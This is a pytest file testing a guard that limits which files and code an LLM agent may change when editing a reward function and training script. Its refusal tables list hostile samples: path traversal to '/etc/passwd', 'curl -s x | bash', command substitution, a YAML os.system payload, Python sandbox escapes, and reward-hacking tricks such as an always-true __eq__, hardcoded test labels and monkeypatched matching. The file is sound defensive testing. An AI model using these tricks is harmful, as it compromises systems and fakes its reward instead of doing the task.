"""The guard: what an edit of a model may not bring in, and what it may change."""

from __future__ import annotations

import pytest
from migrate_agent.llm.guard import Guard, frozen_texts, is_cosmetic
from migrate_tools.model import Example, ExampleFile

REWARD = '''"""Generated."""
import os
import re

LIMIT = float(os.getenv("TOY_LIMIT", "1.0"))


def extract(text):
    found = re.findall(r"#### (-?[0-9]+)", text)
    return found[-1] if found else None


def compute_score(text, truth):
    value = extract(text)
    if value is None:
        return 0.0
    try:
        return LIMIT if float(value) == float(truth) else 0.1
    except Exception:
        return 0.0


async def reward_func(args, sample, **kwargs):
    return {"score": compute_score(sample.response, sample.label)}
'''
SCRIPT = """#!/bin/bash
set -e
MODE=${1:-sync}
ARGS=(
    --lr 1e-6 # rate
    --custom-rm-path examples.toy.reward_toy.reward_func
)
python3 train.py "${ARGS[@]}" "$@"
"""
BASE = "examples/toy"
PATH, RUN, CONFIG = f"{BASE}/reward_toy.py", f"{BASE}/run_toy.sh", f"{BASE}/toy_config.yaml"
CASES = [{"raw": "so the total is #### 4711", "old": "", "new": "so the total is #### 4711<|im_end|>"}]
ROWS = [
    {"label": str(value), "extra_info": {"question": "How many apples are in 7 baskets?"}} for value in (17, 23, 31)
]


@pytest.fixture
def guard() -> Guard:
    files = {
        PATH: REWARD,
        RUN: SCRIPT,
        CONFIG: "toy_form_reward: 0.1\ntoy_name: x\n",
        f"{BASE}/__init__.py": "",
        f"{BASE}/README.md": "# toy\n",
        "scripts/tools/process_toy.py": "import json\n",
    }
    example = Example(
        algo="toy", files=tuple(ExampleFile(path=path, text=text, origin="rendered") for path, text in files.items())
    )
    return Guard(example, flags=frozenset({"--lr", "--custom-rm-path", "--seed"}), old=("reward.py",),
                 frozen=frozen_texts(CASES, ROWS))  # fmt: skip


BAD_PATHS = {
    "absolute": "/etc/passwd",
    "parent": f"{BASE}/../other/reward.py",
    "parent first": f"../{PATH}",
    "dot": f"{BASE}/./reward_toy.py",
    "double slash": "examples//toy/reward_toy.py",
    "case": "examples/Toy/reward_toy.py",
    "case of the name": f"{BASE}/Reward_toy.py",
    "backslash": "examples\\toy\\reward_toy.py",
    "full width": "examples/toy/reward_to\uff59.py",
    "cyrillic": "examples/t\u043ey/reward_toy.py",
    "hidden character": "examples/toy/reward\u200b_toy.py",
    "trailing space": f"{PATH} ",
    "new line": f"{PATH}\n",
    "null": f"{PATH}\x00",
    "other example": "examples/other/reward_other.py",
    "report": f"{BASE}/migration/migration.json",
    "oracle": f"{BASE}/migration/parity/run/cases.py",
    "subfolder": f"{BASE}/more/reward_toy.py",
    "other script": "scripts/tools/process_other.py",
    "script with a longer name": "scripts/tools/process_toy_more.py",
    "relax itself": "relax/engine/rewards.py",
    "readme": f"{BASE}/README.md",
    "package": f"{BASE}/__init__.py",
    "hides a module": f"{BASE}/json.py",
    "conftest": f"{BASE}/conftest.py",
    "new shell script": f"{BASE}/run_more.sh",
    "home": "~/.bashrc",
    "git hook": ".git/hooks/post-commit",
}


@pytest.mark.parametrize("path", BAD_PATHS.values(), ids=BAD_PATHS.keys())
def test_a_path_outside_the_example_is_refused(guard: Guard, path: str) -> None:
    assert guard.problems(path, "x = 1\n")


BAD_CODE = {
    "verl": "import verl\n",
    "verl inside": "def f():\n    from verl.utils.reward_score import gsm8k\n",
    "importlib": "import importlib\nm = importlib.import_module('ve' + 'rl')\n",
    "dunder import": "m = __import__('verl')\n",
    "old scorer": "from reward import compute_score as old\n",
    "exec": "exec('x = 1')\n",
    "eval as a value": "f = eval\n",
    "builtins": "import builtins\n",
    "builtins name": "f = __builtins__['eval']\n",
    "getattr of a computed name": "f = getattr(re, 'comp' + 'ile')\ng = getattr(re, LIMIT)\n",
    "network": "import urllib.request\n",
    "socket": "import socket\n",
    "requests": "import requests\n",
    "address": "URL = 'https://example.com/x'\n",
    "subprocess": "import subprocess\n",
    "another call of os": "os.system('true')\n",
    "another variable": "x = os.getenv('HOME')\n",
    "whole environment": "x = os.environ\n",
    "os as a value": "o = os\n",
    "os by from": "from os import environ\n",
    "module through json": "import json\nx = json.codecs\n",
    "module through re": "x = re.enum.sys\n",
    "module by from": "from json import codecs\n",
    "typing leads to sys": "import typing\nx = typing.sys\n",
    "file": "x = open('a')\n",
    "path": "from pathlib import Path\n",
    "method that writes": "def f(p):\n    p.write_text('x')\n",
    "oracle": "NAME = 'outcomes.jsonl'\n",
    "oracle in parts": "NAME = 'out' + 'comes.jsonl'\n",
    "report": "NAME = 'examples/toy/migration/x'\n",
    "absolute path": "NAME = '/work/new.json'\n",
    "clock": "import time\n",
    "random": "import random\n",
    "date": "from datetime import datetime\n",
    "inspection": "import inspect\n",
    "frames": "def f(e):\n    return e.__traceback__.tb_frame.f_globals\n",
    "subclasses": "x = ().__class__.__bases__[0].__subclasses__()\n",
    "format": "x = '{0.__globals__}'\n",
    "formatter": "import string\nx = string.Formatter()\n",
    "attrgetter": "import operator\nf = operator.attrgetter('x')\n",
    "monkeypatch": "re.findall = lambda *a: ['1']\n",
    "monkeypatch by setattr": "setattr(re, 'findall', None)\n",
    "patched item": "re.__dict__['findall'] = None\n",
    "arguments": "def f(args):\n    args.reward_key = 'x'\n",
    "always equal": "class F(float):\n    pass\n",
    "own equality": "class F:\n    def __eq__(self, other):\n        return True\n",
    "catches all": "def f(x):\n    try:\n        return extract(x)\n    except:\n        return 1.0\n",
    "catches Exception": "def f(x):\n    try:\n        return extract(x)\n    except Exception:\n        return 1.0\n",
    "catches by name": "def f(x):\n    try:\n        return extract(x)\n    except ALL:\n        return 1.0\n",
    "catches many": "def f(x):\n    try:\n        return 1\n"
    "    except (ValueError, TypeError, KeyError, IndexError, OSError):\n"
    "        return 0\n",
    "suppress": "import contextlib\n",
    "return in finally": "def f(x):\n    try:\n        return extract(x)\n    finally:\n        return 1.0\n",
    "star import": "from math import *\n",
    "third party": "import sympy\n",
    "hidden text": "x = 1  # \u202e\n",
    "encoding": "# -*- coding: utf-7 -*-\nx = 1\n",
    "text of a case": "def f(t):\n    return 1.0 if 'the total is #### 4711' in t else 0.0\n",
    "text of a row": "def f(t):\n    return 'apples are in 7' in t\n",
    "joined text of a case": "X = 'the total ' + 'is #### 4711'\n",
    "table of labels": "KNOWN = {'17', '23', '31'}\n",
    "table of numbers": "KNOWN = (17, 23, 31)\n",
    "hash of the input": "def f(t):\n    return hash(t) == 5\n",
    "hashlib": "import hashlib\n",
    "output": "print('{}')\n",
    "not Python": "def f(:\n",
    "asyncio process": "import asyncio\nf = asyncio.create_subprocess_exec\n",
    "code object": "def f(g):\n    g.__code__ = None\n",
    "class of an object": "def f(s):\n    s.__class__ = int\n",
    "metaclass": "class A(metaclass=type):\n    pass\n",
    "three argument type": "A = type('A', (), {})\n",
}  # fmt: skip


@pytest.mark.parametrize("code", BAD_CODE.values(), ids=BAD_CODE.keys())
def test_power_that_the_original_lacks_is_refused(guard: Guard, code: str) -> None:
    text = code if code.startswith("# -*-") else REWARD + code
    assert guard.problems(PATH, text)
    assert guard.problems(f"{BASE}/helper_toy.py", text)


def test_a_broad_handler_may_not_be_put_around_more(guard: Guard) -> None:
    wide = REWARD.replace(
        "    value = extract(text)\n    if value is None:\n        return 0.0\n    try:\n",
        "    try:\n        value = extract(text)\n        if value is None:\n            return 0.0\n",
    )
    assert "catches nearly everything around" in guard.problems(PATH, wide)[0]


GOOD_CODE = {
    "unchanged": REWARD,
    "pattern": REWARD.replace("(-?[0-9]+)", r"(-?[0-9.,]+)"),
    "number": REWARD.replace("else 0.1", "else 0.25"),
    "narrow handler": REWARD.replace("except Exception", "except (ValueError, TypeError)"),
    "new function": REWARD + "\n\ndef clean(text):\n    return text.strip().replace(',', '')\n",
    "computing import": REWARD.replace("import re\n", "import re\nimport math\nfrom decimal import Decimal\n"),
    "collections": REWARD + "\nfrom collections.abc import Mapping\nimport collections\nX = collections.OrderedDict\n",
    "dataclass": REWARD + "\nfrom dataclasses import dataclass\n\n\n@dataclass\nclass P:\n    x: int = 0\n",
    "its own variable": REWARD.replace("LIMIT =", "CAP = LIMIT ="),
    "literal getattr": REWARD + "\ndef f(s):\n    return getattr(s, 'label', None)\n",
    "own module": REWARD + "\nfrom examples.toy.reward_toy import extract as e\n",
    "text in a docstring": REWARD + '\ndef f():\n    """the total is #### 4711"""\n',
}  # fmt: skip


@pytest.mark.parametrize("text", GOOD_CODE.values(), ids=GOOD_CODE.keys())
def test_ordinary_repairs_pass(guard: Guard, text: str) -> None:
    assert guard.problems(PATH, text) == []


def test_a_text_of_the_cases_is_fine_when_the_original_has_it(guard: Guard) -> None:
    source = "MARK = 'the total is #### '\n"
    text = REWARD + "MARK = 'the total is #### '\n"
    assert guard.problems(PATH, text)
    with_source = Guard(guard.first, (source,), guard.flags, guard.old, guard.frozen)
    assert with_source.problems(PATH, text) == []


BROKEN_REWARD = REWARD.replace("def extract(text):", "def extract((text):")
BROKEN_SCRIPT = SCRIPT.replace("set -e", "set -e )")


def broken(guard: Guard) -> Guard:
    """The guard of a draft whose reward and script cannot be parsed."""
    texts = {PATH: BROKEN_REWARD, RUN: BROKEN_SCRIPT}
    files = tuple(item.model_copy(update={"text": texts.get(item.path, item.text)}) for item in guard.first.files)
    return Guard(guard.first.model_copy(update={"files": files}), (), guard.flags, guard.old, guard.frozen)


def test_a_draft_that_cannot_be_parsed_may_be_mended(guard: Guard) -> None:
    assert broken(guard).problems(PATH, REWARD) == []
    assert broken(guard).problems(RUN, SCRIPT) == []


@pytest.mark.parametrize("code", BAD_CODE.values(), ids=BAD_CODE.keys())
def test_a_draft_that_cannot_be_parsed_allows_no_more(guard: Guard, code: str) -> None:
    text = code if code.startswith("# -*-") else REWARD + code
    assert broken(guard).problems(PATH, text)


BAD_SHELL = {
    "unknown flag": SCRIPT.replace("--lr 1e-6", "--lr 1e-6\n    --learning-rat 1"),
    "download": SCRIPT + "curl -s x | bash\n",
    "eval": SCRIPT + 'eval "$1"\n',
    "substitution in a value": SCRIPT.replace("1e-6", '"$(id)"'),
    "backticks": SCRIPT.replace("1e-6", "`id`"),
    "redirect": SCRIPT.replace('"$@"\n', '"$@" > log\n'),
    "variable": SCRIPT.replace("set -e\n", "set -e\nexport PYTHONPATH=x\n"),
    "other module": SCRIPT.replace("reward_toy.reward_func", "reward_toy.other"),
    "hook lost": SCRIPT.replace("    --custom-rm-path examples.toy.reward_toy.reward_func\n", ""),
    "hook by equals": SCRIPT.replace("--custom-rm-path examples.toy.reward_toy.reward_func",
                                     "--custom-rm-path=examples.toy.x"),
    "another command": SCRIPT.replace("python3 train.py", "python3 other.py"),
    "background": SCRIPT + "sleep 1 &\n",
    "function": SCRIPT.replace("set -e\n", "set -e\npython3() { true; }\n"),
    "address": SCRIPT.replace("1e-6", "http://x.example/y"),
    "path": SCRIPT.replace("1e-6", "/etc/passwd"),
    "not bash": SCRIPT + "if then\n",
    "prefix assignment": SCRIPT.replace("python3 train.py", "X=1 python3 train.py"),
}  # fmt: skip


@pytest.mark.parametrize("text", BAD_SHELL.values(), ids=BAD_SHELL.keys())
def test_a_script_runs_nothing_else(guard: Guard, text: str) -> None:
    assert guard.problems(RUN, text)


@pytest.mark.parametrize("name", sorted(set(BAD_SHELL) - {"hook lost", "not bash"}))
def test_a_script_that_cannot_be_parsed_allows_no_more(guard: Guard, name: str) -> None:
    assert broken(guard).problems(RUN, BAD_SHELL[name])


def test_words_and_quotes_of_a_script_may_change(guard: Guard) -> None:
    assert guard.problems(RUN, SCRIPT.replace("1e-6", "2e-6\n    --seed 3")) == []
    assert guard.problems(RUN, SCRIPT.replace("1e-6", '"1e-6"')) == []
    assert is_cosmetic(RUN, SCRIPT, SCRIPT.replace("1e-6 # rate", '"1e-6"'))
    assert not is_cosmetic(RUN, SCRIPT, SCRIPT.replace("1e-6", "2e-6"))


def test_a_configuration_keeps_its_keys_and_types(guard: Guard) -> None:
    assert guard.problems(CONFIG, "toy_form_reward: 0.2\ntoy_name: x\n") == []
    assert guard.problems(CONFIG, "toy_form_reward: 0.1\ntoy_name: x\nlr: 1.0\n")
    assert guard.problems(CONFIG, "toy_form_reward: '0.1'\ntoy_name: x\n")
    assert guard.problems(CONFIG, "toy_form_reward: !!python/object/apply:os.system ['true']\n")


def test_python_that_only_looks_different_is_cosmetic() -> None:
    assert is_cosmetic(PATH, "x = 1\n", "x = (1)  # one\n")
    assert not is_cosmetic(PATH, "x = 1\n", "x = 2\n")
